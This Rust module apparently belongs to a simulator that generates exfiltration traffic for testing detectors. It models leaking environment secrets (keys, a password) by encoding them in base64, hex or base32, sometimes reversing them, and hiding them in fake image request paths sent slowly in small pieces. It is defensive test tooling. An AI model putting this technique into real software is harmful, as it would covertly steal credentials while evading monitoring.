//! A key in the path of a request: encoded, reversed, or in pieces (T1132).

use super::alphabet::{BASE32, BASE64_URL, HEX, environment};
use super::{Attack, Channel, Kind, Mission, Pace, Role};
use crate::simulate::programs::CURL;
use crate::simulate::session::{Call, Over, Route, Session};

/// The environment's first lines: two keys and a password.
const SECRET_BYTES: usize = 130;

/// The picture that was asked for.
const PICTURE_BYTES: usize = 1_200;

const ROLES: [Role; 3] = [
    Role { route: Route::Direct, v6: false, act: in_clear },
    Role { route: Route::Squid, v6: false, act: in_clear },
    Role { route: Route::Bump, v6: false, act: sealed },
];

pub(super) static KIND: Kind = Kind {
    name: "encoded-secret",
    about: "a key in paths: encoded, reversed, in pieces",
    technique: "T1132",
    channel: Channel::Http,
    found_by: &["sensitive_content", "new_destination"],
    paces: [
        // The keys of the environment in one path.
        Pace { contacts: 1..2, bytes: 130..131, apart_ms: 0..1 },
        // In pieces.
        Pace { contacts: 6..13, bytes: 8..24, apart_ms: 500..20_000 },
        // A few letters at a time.
        Pace { contacts: 25..36, bytes: 3..6, apart_ms: 300_000..900_000 },
    ],
    roles: &ROLES,
    sessions: 1,
};

fn in_clear(session: &mut Session, mission: &Mission) -> Attack {
    act(session, mission, Over::Clear)
}

fn sealed(session: &mut Session, mission: &Mission) -> Attack {
    act(session, mission, Over::Tls)
}

/// One secret, in an encoding that the session has chosen; every second session reverses it first.
fn act(session: &mut Session, mission: &Mission, over: Over) -> Attack {
    let host = mission.host("img");
    let mut secret = environment(&mut session.dice, SECRET_BYTES);
    let alphabet = *session.dice.pick(&[BASE64_URL, HEX, BASE32]);
    if session.dice.chance(0.5) {
        secret.reverse();
    }
    let mut left = secret.into_iter().cycle();
    mission.send_over(over, session, (&host, &CURL), |_, bytes| {
        let piece: Vec<u8> = left.by_ref().take(bytes).collect();
        vec![Call::get(format!("/i/{}.png", alphabet.encode(&piece)), PICTURE_BYTES)]
    })
}
